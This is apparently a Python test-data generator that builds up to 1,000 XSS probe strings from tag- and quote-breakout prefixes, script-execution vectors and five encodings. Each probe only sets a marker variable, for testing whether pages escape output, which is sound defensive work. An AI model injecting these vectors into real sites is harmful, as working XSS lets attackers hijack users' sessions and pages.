"""Which texts would become markup, an address or a script if a page let them? Every way out of where a text stands, with every
thing that would run, written in several ways: 1,000, the same each time. All of them set window.hit or open a dialog."""
WAYS_OUT = ("", '"', "'", '">', "'>", "\">'>", "</title>", "</textarea>", "</script>", "</style>", "</option></select>", "-->", "]]>", "<!--",
            "</a>", "</svg>", "</code></b></p>", "<![CDATA[", "</main></body></html>", "&quot;>", "&#34;>", "\\\">", "`>", "</noscript>", "</label></form>")
RUNS = ("<script>window.hit=1</script>", "<img src=x onerror=window.hit=1>", "<svg onload=window.hit=1>", "<svg><script>window.hit=1</script></svg>",
        "<iframe srcdoc='<script>parent.hit=1</script>'>", "<body onload=window.hit=1>", "<details open ontoggle=window.hit=1>x</details>",
        "<input autofocus onfocus=window.hit=1>", "<a href=javascript:window.hit=1>x</a>", "<video><source onerror=window.hit=1></video>",
        "<object data=javascript:window.hit=1>", "<math><mtext><img src=x onerror=window.hit=1></mtext></math>",
        "<form action=javascript:window.hit=1><button>x</button></form>", " onmouseover=window.hit=1 autofocus onfocus=window.hit=1 x=",
        "javascript:window.hit=1", "<style>@import 'javascript:window.hit=1'</style>", "<meta http-equiv=refresh content='0;url=javascript:window.hit=1'>",
        "<template shadowrootmode=open><img src=x onerror=window.hit=1></template>", "<link rel=stylesheet href=x onerror=window.hit=1>",
        "<base href=javascript:window.hit=1//>")
WRITINGS = (lambda text: text, lambda text: text.upper().replace("WINDOW.HIT", "window.hit"), lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
            lambda text: text.replace("<", "\\u003c").replace('"', "\\x22"), lambda text: text.replace("<", "%3C").replace(">", "%3E"))


def hostile_texts(count):
    """`count` of them, from 1 to 1,000, each once; the plain writings of all come first in turn."""
    texts = []
    for write in WRITINGS:
        for i in range(len(WAYS_OUT) * len(RUNS)):
            # Both wheels turn, so that few texts already hold every way out and everything that runs.
            way, run = WAYS_OUT[i % len(WAYS_OUT)], RUNS[(i + i // len(WAYS_OUT)) % len(RUNS)]
            text = write(way + run)
            if text not in texts:
                texts.append(text)
    if not 1 <= count <= 1000 or len(texts) < 1000:
        raise ValueError(f"{len(texts)} texts are there")
    return texts[:count]
